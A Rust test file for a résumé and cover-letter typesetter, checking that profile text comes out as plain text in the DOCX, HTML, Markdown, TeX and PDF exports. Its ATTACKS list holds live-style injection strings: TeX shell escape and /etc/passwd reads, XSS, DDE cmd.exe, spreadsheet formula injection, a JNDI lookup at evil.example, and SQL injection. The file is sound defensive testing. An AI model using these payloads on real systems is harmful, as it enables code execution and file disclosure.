//! Whatever a person's files say is text in every format: no markup, no formula, no field, no
//! command.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
#[path = "common/formats.rs"]
mod reading;

use common::{bare, bullets, draft_of, pdftotext};
use reading::{
    assert_folded_in_order, assert_lines_in_order, compiled, docx_text, html_text, markdown_text,
    part, part_names, tex_fold, tex_text,
};
use scraper::{Html, Node};
use serde_json::json;
use typeset::{
    Catalog, Document, Letter, PrintJob, PrintOptions, Typesetter, docx, html, markdown,
    plain_text, tex,
};

/// One of each family that some format could take for its own.
const ATTACKS: [&str; 44] = [
    // Typst
    "#read(\"/etc/passwd\") #eval(\"1+1\") #set page(fill: red)",
    "$ x^2 $ *bold* _emph_ `raw` ] } ) [# <label> @ref",
    // LaTeX
    "\\input{/etc/passwd}",
    "\\immediate\\write18{id > /tmp/x} \\openin5=/etc/passwd",
    "\\input|\"id\" \\catcode`\\@=0 @input",
    "^^5cinput^^7b/etc/passwd^^7d \\csname input\\endcsname",
    "\\end{document} \\loop\\iftrue\\repeat \\def\\x{\\x}\\x",
    "} \\par { $$ \\undefined & \\\\ % comment",
    "-- --- ?` !` << >> ,, `` '' \"` \"'",
    "\\href{javascript:alert(1)}{x} \\url{file:///etc/passwd}",
    // HTML
    "<script>alert(1)</script>",
    "</title></style></head><body onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<!-- --> <![CDATA[ ]]> <?php system('id') ?>",
    "&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp;",
    "<svg/onload=alert(1)> <a href=javascript:alert(1)>x</a>",
    // Markdown
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "# Heading",
    "1. One",
    "12) Twelve",
    "- item",
    "+ item",
    "> quote",
    "| a | b |",
    "===",
    "---",
    "***",
    "```rust fn main() {}```",
    "[ref]: https://evil.example",
    "<https://evil.example> https://evil.example www.evil.example",
    "~~gone~~ **bold** __bold__ ==mark== [^1] {{ config }} {% raw %}",
    "trailing backslash \\",
    // Spreadsheets
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1 -1-1",
    // RTF
    "{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK \"https://evil.example\"}}}",
    "\\par\\pard \\'41 {\\object\\objemb}",
    // Word
    "{ INCLUDETEXT \"C:\\\\Windows\\\\win.ini\" } DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"",
    "</w:t></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>",
    "]]> <w:fldSimple w:instr=\"AUTHOR\"/> <w:hyperlink r:id=\"link1\">",
    // Shells, formats, terminals
    "${jndi:ldap://evil.example/a} ${HOME} %n%s $(id) `id`",
    "'; DROP TABLE users; -- \" OR 1=1",
];

/// A profile of which every field says that.
fn everywhere(text: &str) -> serde_json::Value {
    let entry = |name: &str| {
        json!([{
            name: text, "position": text, "title": text, "studyType": text, "area": text,
            "institution": text, "organization": text, "issuer": text, "publisher": text,
            "awarder": text, "location": text, "url": text, "summary": text, "description": text,
            "reference": text, "startDate": text, "endDate": text, "date": "2020-01",
            "highlights": [text, text], "roles": [text], "keywords": [text], "courses": [text],
        }])
    };
    json!({
        "basics": {
            "name": text, "label": text, "email": text, "phone": text, "url": text,
            "summary": text,
            "location": {"address": text, "city": text, "region": text, "countryCode": text},
            "profiles": [{"network": text, "username": text, "url": text}],
        },
        "work": entry("name"), "volunteer": entry("organization"),
        "education": entry("institution"), "awards": entry("title"),
        "certificates": entry("name"), "publications": entry("name"),
        "projects": entry("name"), "references": entry("name"),
        "skills": [{"name": text, "level": text, "keywords": [text, text]}],
        "interests": [{"name": text, "keywords": [text]}],
        "languages": [{"language": text, "fluency": text}],
    })
}

/// What the program makes of that profile, with the text as section titles too.
fn job(text: &str) -> (PrintJob, Document) {
    let profile = serde_json::to_vec(&everywhere(text)).unwrap();
    let profile = intake::read_evidence("resume.json", &profile)
        .unwrap()
        .profile;
    let draft = draft_of(&profile, "en", 10);
    let options = PrintOptions {
        titles: [
            (career::SectionKind::Work, text.to_owned()),
            (career::SectionKind::Skills, text.to_owned()),
        ]
        .into(),
        ..PrintOptions::default()
    };
    let job = PrintJob::new(&draft, &profile.facts, options).unwrap();
    let document = job.document(0);
    assert!(document.lines().count() > 15, "{text}");
    (job, document)
}

/// A letter of which every part says that, below a head that says it too.
fn letter(text: &str) -> (PrintJob, Document) {
    let profile = serde_json::to_vec(&everywhere(text)).unwrap();
    let profile = intake::read_evidence("resume.json", &profile)
        .unwrap()
        .profile;
    let draft = draft_of(&profile, "en", 1);
    let several = || vec![text.to_owned(), text.to_owned()];
    let letter = Letter {
        language: None,
        recipient: several(),
        date: Some(text.to_owned()),
        subject: Some(text.to_owned()),
        greeting: Some(text.to_owned()),
        paragraphs: several(),
        closing: Some(text.to_owned()),
        signature: Some(text.to_owned()),
        enclosures: several(),
    };
    let options = PrintOptions {
        pages: Some(10),
        ..PrintOptions::default()
    };
    let catalog = Catalog::built_in();
    let job = PrintJob::letter(&catalog, &draft, &profile.facts, &letter, options).unwrap();
    let document = job.document(0);
    assert!(
        document.is_letter() && document.lines().count() > 10,
        "{text}"
    );
    (job, document)
}

fn links(document: &Document) -> usize {
    document.lines().filter(|line| line.link.is_some()).count()
}

#[test]
fn attacks_in_every_field_come_out_letter_by_letter_in_every_format() {
    for attack in ATTACKS {
        for (job, document) in [job(attack), letter(attack)] {
            assert!(
                document.lines().any(|line| line.text == attack),
                "{attack} was read as something else"
            );
            assert_lines_in_order(attack, &document, &plain_text(&document));
            assert_lines_in_order(
                attack,
                &document,
                &docx_text(&docx(&job, &document).unwrap()),
            );
            assert_lines_in_order(attack, &document, &html_text(&html(&job, &document)));
            assert_lines_in_order(attack, &document, &markdown_text(&markdown(&document)));
            let source = tex(&job, &document);
            assert_folded_in_order(attack, &document, &tex_text(&source), tex_fold);
        }
    }
}

#[test]
fn a_word_document_of_attacks_has_no_field_no_macro_and_leads_nowhere_by_itself() {
    for attack in ATTACKS {
        for (job, document) in [job(attack), letter(attack)] {
            let file = docx(&job, &document).unwrap();
            assert_eq!(
                part_names(&file),
                [
                    "[Content_Types].xml",
                    "_rels/.rels",
                    "docProps/core.xml",
                    "word/document.xml",
                    "word/styles.xml",
                    "word/numbering.xml",
                    "word/settings.xml",
                    "word/fontTable.xml",
                    "word/_rels/document.xml.rels",
                ]
            );
            let text = part(&file, "word/document.xml");
            let tree = roxmltree::Document::parse(&text).unwrap();
            for element in tree.descendants().filter(roxmltree::Node::is_element) {
                let name = element.tag_name().name();
                assert!(
                    [
                        "document",
                        "body",
                        "p",
                        "pPr",
                        "pStyle",
                        "keepNext",
                        "bidi",
                        "r",
                        "rPr",
                        "rStyle",
                        "rtl",
                        "t",
                        "hyperlink",
                        "sectPr",
                        "pgSz",
                        "pgMar",
                        "cols",
                    ]
                    .contains(&name),
                    "{name}"
                );
            }
            let relations = part(&file, "word/_rels/document.xml.rels");
            let relations = roxmltree::Document::parse(&relations).unwrap();
            let outside: Vec<_> = relations
                .descendants()
                .filter(|node| node.attribute("TargetMode").is_some())
                .collect();
            assert_eq!(outside.len(), links(&document));
            for node in outside {
                let target = node.attribute("Target").unwrap();
                assert!(target.starts_with("https://") || target.starts_with("mailto:"));
                assert!(node.attribute("Type").unwrap().ends_with("/hyperlink"));
            }
        }
    }
}

#[test]
fn a_page_of_attacks_has_no_element_and_no_attribute_that_is_not_ours() {
    for attack in ATTACKS {
        for (job, document) in [job(attack), letter(attack)] {
            let page = html(&job, &document);
            let tree = Html::parse_document(&page);
            assert!(tree.errors.is_empty(), "{attack}: {:?}", tree.errors);
            let mut found = 0;
            for node in tree.tree.nodes() {
                match node.value() {
                    Node::Element(element) => {
                        assert!(
                            [
                                "html", "head", "meta", "title", "style", "body", "header", "main",
                                "section", "article", "h1", "h2", "h3", "p", "span", "ul", "li",
                                "a", "strong",
                            ]
                            .contains(&element.name()),
                            "{attack}: {}",
                            element.name()
                        );
                        for (name, value) in element.attrs() {
                            match name {
                                "href" => {
                                    found += 1;
                                    assert!(
                                        value.starts_with("https://")
                                            || value.starts_with("mailto:")
                                    );
                                }
                                "class" | "dir" | "lang" | "charset" | "http-equiv" | "content"
                                | "name" => {}
                                _ => panic!("{attack}: {name}"),
                            }
                        }
                    }
                    Node::Comment(_) | Node::ProcessingInstruction(_) => panic!("{attack}"),
                    _ => {}
                }
            }
            assert_eq!(found, links(&document));
        }
    }
}

#[test]
fn control_characters_and_direction_marks_do_not_reach_any_format() {
    let dirty =
        "safe\u{0}\u{7}\u{1b}[31m\u{202e}evil\u{2066}\u{200f} a\u{ad}b\u{a0}c\u{b}\u{fffe}d";
    let (job, document) = job(dirty);
    let (letter_job, letter) = letter(dirty);
    let files = [
        docx_text(&docx(&job, &document).unwrap()),
        html(&job, &document),
        markdown(&document),
        plain_text(&document),
        tex(&job, &document),
        docx_text(&docx(&letter_job, &letter).unwrap()),
        html(&letter_job, &letter),
        markdown(&letter),
        plain_text(&letter),
        tex(&letter_job, &letter),
    ];
    for file in files {
        assert!(file.contains("evil"));
        let bad = file.chars().find(|character| {
            (character.is_control() && *character != '\n')
                || matches!(character, '\u{ad}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
                    | '\u{2066}'..='\u{2069}' | '\u{fffe}' | '\u{ffff}' | '\u{a0}')
        });
        assert_eq!(bad, None);
    }
}

#[test]
fn a_document_out_of_a_store_can_bring_neither_a_link_nor_a_line_of_its_own() {
    let (draft, facts) = bullets(&["First", "Second"], 1);
    let job = PrintJob::new(&draft, &facts, PrintOptions::default()).unwrap();
    let mut stored = serde_json::to_value(job.document(0)).unwrap();
    let line = &mut stored["sections"][0]["blocks"][0]["lines"][0];
    line["text"] = json!("one\n\n# two\r\n\\par\n- three");
    line["link"] = json!("javascript:alert(1)");
    line["label"] = json!(7_000);
    stored["language"] = json!("en\" onload=\"x");
    let document: Document = serde_json::from_value(stored).unwrap();
    assert!(!html(&job, &document).contains("href"));
    assert!(html(&job, &document).contains("<html lang=\"en\""));
    assert!(!markdown(&document).contains("](<"));
    assert!(plain_text(&document).contains("- one # two \\par - three\n"));
    assert!(!tex(&job, &document).contains("\\href{"));
    let file = docx(&job, &document).unwrap();
    assert!(!part(&file, "word/_rels/document.xml.rels").contains("TargetMode"));
}

#[test]
fn naughty_strings_are_text_in_every_format() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../fixtures/hostile/strings/blns.json"
    );
    let strings: Vec<String> = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    // What is no character at all is in no format: XML could not even name it.
    let lines: Vec<&str> = strings
        .iter()
        .map(String::as_str)
        .filter(|line| !line.contains('\u{fffe}'))
        .collect();
    let (draft, facts) = bullets(&lines, 10);
    let job = PrintJob::new(&draft, &facts, PrintOptions::default()).unwrap();
    let document = job.document(0);
    assert_lines_in_order(
        "docx",
        &document,
        &docx_text(&docx(&job, &document).unwrap()),
    );
    assert_lines_in_order("html", &document, &html_text(&html(&job, &document)));
    assert_lines_in_order("markdown", &document, &markdown_text(&markdown(&document)));
    assert_lines_in_order("plain", &document, &plain_text(&document));
    let source = tex(&job, &document);
    assert_folded_in_order("tex", &document, &tex_text(&source), tex_fold);
}

/// What readers of PDF make of some signs: three points of an ellipsis, hyphens at line ends.
fn as_read(text: &str) -> String {
    bare(text)
        .replace('…', "...")
        .replace(['-', '\u{2010}'], "")
}

#[test]
fn a_document_of_attacks_compiles_and_reads_back_letter_by_letter() {
    let (draft, facts) = bullets(&ATTACKS, 10);
    let job = PrintJob::new(&draft, &facts, PrintOptions::default()).unwrap();
    let document = job.document(0);
    let source = tex(&job, &document);
    for engine in ["pdflatex", "xelatex"] {
        let Some((said, pdf)) = compiled(engine, &source) else {
            continue;
        };
        let pdf = pdf.unwrap_or_else(|| panic!("{engine}: {said}"));
        let text = pdftotext(&pdf);
        assert!(!text.contains("root:"));
        assert_folded_in_order(engine, &document, &as_read(&text), as_read);
    }
}

#[test]
fn a_letter_the_engine_cannot_set_stops_it_with_an_error_that_says_which() {
    for (engine, words, said) in [
        ("xelatex", "A rare letter: \u{16b50}", "U+16B50"),
        ("pdflatex", "שלום", "pdfLaTeX cannot set Hebrew"),
        ("pdflatex", "東京", "pdfLaTeX cannot set Han"),
        ("pdflatex", "Unset: \u{2603}", "(U+2603)"),
    ] {
        let (draft, facts) = bullets(&[words], 1);
        let job = PrintJob::new(&draft, &facts, PrintOptions::default()).unwrap();
        let Some((log, pdf)) = compiled(engine, &tex(&job, &job.document(0))) else {
            continue;
        };
        assert_eq!(pdf, None, "{engine} {words}");
        assert!(log.replace('\n', "").contains(said), "{engine}: {log}");
    }
}

#[test]
fn a_letter_of_attacks_is_printed_and_read_back_letter_by_letter() {
    let typesetter = Typesetter::new();
    for attack in ATTACKS {
        let (job, _) = letter(attack);
        let printed = typesetter.print(&job.without_previews()).unwrap();
        assert_eq!(printed.report.faults, Vec::new(), "{attack}");
    }
}

#[test]
fn a_letter_of_attacks_compiles_in_latex() {
    let profile = serde_json::to_vec(&everywhere("Jane")).unwrap();
    let profile = intake::read_evidence("resume.json", &profile)
        .unwrap()
        .profile;
    let letter = Letter {
        subject: Some(ATTACKS.concat()),
        recipient: ATTACKS.map(str::to_owned).to_vec(),
        paragraphs: ATTACKS.map(str::to_owned).to_vec(),
        enclosures: ATTACKS.map(str::to_owned).to_vec(),
        ..Letter::default()
    };
    let draft = draft_of(&profile, "en", 1);
    let catalog = Catalog::built_in();
    let job = PrintJob::letter(
        &catalog,
        &draft,
        &profile.facts,
        &letter,
        PrintOptions::default(),
    );
    let job = job.unwrap();
    let document = job.document(0);
    for engine in ["pdflatex", "xelatex"] {
        let Some((said, pdf)) = compiled(engine, &tex(&job, &document)) else {
            continue;
        };
        let pdf = pdf.unwrap_or_else(|| panic!("{engine}: {said}"));
        assert_folded_in_order(engine, &document, &as_read(&pdftotext(&pdf)), as_read);
    }
}
